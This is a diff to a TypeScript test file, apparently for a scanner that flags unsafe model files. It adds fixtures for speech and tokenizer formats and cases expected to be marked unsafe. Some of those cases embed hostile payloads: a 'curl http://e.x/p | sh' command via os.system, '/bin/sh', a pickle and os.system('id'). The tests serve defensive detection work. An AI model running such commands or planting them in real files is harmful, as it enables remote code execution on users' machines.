@@ -30,6 +30,30 @@ function hnsw(): Uint8Array {
 const matlab4 = (name: string, type: number, width: number, number = u32): Uint8Array =>
   bytes(...[type, 1, 2, 0, name.length + 1].map(value => number(value)), name, 0, zeros(2 * width));
 
+/** Bytes of which each comes as often as any other, as in what is encrypted. */
+const encrypted = (size = 8192): Uint8Array => {
+  let state = 1;
+  return Uint8Array.from({ length: size }, () => {
+    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
+    return state >>> 24;
+  });
+};
+/** Tokens of kuromoji.js, each described behind the one before it, as they are written: with room behind them. */
+const tokens = (count: number, step = 20): Uint8Array =>
+  bytes(
+    ...Array.from({ length: count }, (_, i) => bytes(u16(i * 7), u16(i * 7), u16(0x7f3b - i), u32(i * step))),
+    zeros(4000)
+  );
+const described = (...more: readonly string[]): Uint8Array =>
+  bytes(utf8([...Array.from({ length: 20 }, (_, i) => `語${i},名詞,*,*`), ...more].join('\0')), zeros(4000));
+
+/** A dictionary of eSpeak: words in 1,024 lists, and rules. */
+const spelt = (first = 'word'): Uint8Array => {
+  const lists = bytes(1 + first.length, first, zeros(1024));
+  return bytes(u32(1024), u32(8 + lists.length), lists, 6, 'aa', 0, 4, 'n', 2, 'bid', 0);
+};
+const phonemes = bytes(u32(2), ...['base', 'af'].map(name => bytes(u32(3), name.padEnd(32, '\0'), zeros(48).fill(7))));
+
 const faiss = (...inside: readonly Uint8Array[]): Uint8Array =>
   bytes('IxF2', u32(16), u64(1), u64(2 ** 20), u64(2 ** 20), 1, u32(1), ...inside, floats(16));
 const onDisk = (file: string): Uint8Array => bytes('ilod', u64(1), u64(8), u64(0), u64(0), u64(file.length), file);
@@ -40,6 +64,16 @@ test.each([
   ['crfsuite', crf(), 'm.crfsuite'],
   ['hnswlib', hnsw(), 'i.bin'],
   ['tesseract', bytes(u32(17), u64(140), u64(150), zeros(15 * 8).fill(255), zeros(60)), 'eng.traineddata'],
+  ['tesseract', bytes(u32(11), zeros(8).fill(255), u64(92), zeros(9 * 8).fill(255), zeros(60)), 'osd.traineddata'],
+  ['picovoice', encrypted(), 'alexa_linux.ppn'],
+  ['picovoice', encrypted(3000), 'coffee_maker.rhn'],
+  ['espeak', spelt(), 'af_dict'],
+  ['espeak', phonemes, 'phontab'],
+  ['espeak', bytes(u32(0x014801), u32(22050), encrypted(400)), 'phondata'],
+  ['espeak', bytes(...['s1', 's2'].map(name => bytes(name.padEnd(12, '\0'), encrypted(56)))), 'intonations'],
+  ['espeak', bytes(u32(20), u32(0x69), encrypted(68), zeros(24)), 'tr1_phtrans'],
+  ['kuromoji', tokens(900), 'tid.dat'],
+  ['kuromoji', described(), 'tid_pos.dat'],
   ['mecab', bytes(u32(2), 'UTF-8'.padEnd(32, '\0'), zeros(32)), 'model.bin'],
   ['matlab-4', bytes(matlab4('x', 0, 8), matlab4('name', 51, 1)), 'm.mat'],
   ['matlab-4', bytes(matlab4('x', 1000, 8, be32)), 'm.mat'],
@@ -93,6 +127,13 @@ test.each([
     bytes(u32(17), u64(140), u64(130), zeros(15 * 8).fill(255), zeros(60)),
     'e.traineddata'
   ],
+  ['what is encrypted under the name of a model', encrypted(), 'm.bin'],
+  ['words in a file for keywords', bytes(encrypted(5000), 'import os, '.repeat(40), encrypted(5000)), 'alexa.ppn'],
+  ['numbers in a file for keywords', bytes(encrypted(5000), zeros(600), encrypted(5000)), 'alexa.ppn'],
+  ['a list of eSpeak that is too long', bytes(spelt().subarray(0, 500), encrypted(2000)), 'af_dict'],
+  ['phonemes with a rest', bytes(phonemes, 1), 'phontab'],
+  ['tokens with a rest', bytes(tokens(900), 'and more'), 'tid.dat'],
+  ['descriptions with a rest', bytes(described(), 1, 2, 3), 'tid_pos.dat'],
   ['costs of MeCab of another size', bytes(u16(3), u16(2), zeros(14)), 'matrix.bin'],
   ['fastText, cut', fastText(9), 'm.bin'],
   ['CTranslate2, cut', ctranslate2(9_000_000), 'model.bin'],
@@ -120,6 +161,9 @@ test.each([
   ],
   ['a plug-in of somebody', bytes('ftrt', zeros(60), '/tmp/x/libplugin.so', zeros(60)), 'm.engine'],
   ['a shell', bytes('ftrt', zeros(60), '/bin/sh', zeros(60)), 'm.engine'],
+  ['a pickle in a file for keywords', bytes(encrypted(64), pickle, encrypted(8000)), 'alexa.ppn'],
+  ['code among words', spelt("os.system('curl http://e.x/p | sh')"), 'af_dict'],
+  ['code among descriptions', described("x,os.system('curl http://e.x/p | sh')"), 'tid_pos.dat'],
   ['code in a broken file', bytes(u32(793712314), u32(12), "os.system('id')"), 'm.bin']
 ])('unsafe: %s', (_name, data, name) => {
   expect(run(data, {}, name).verdict).toBe('unsafe');
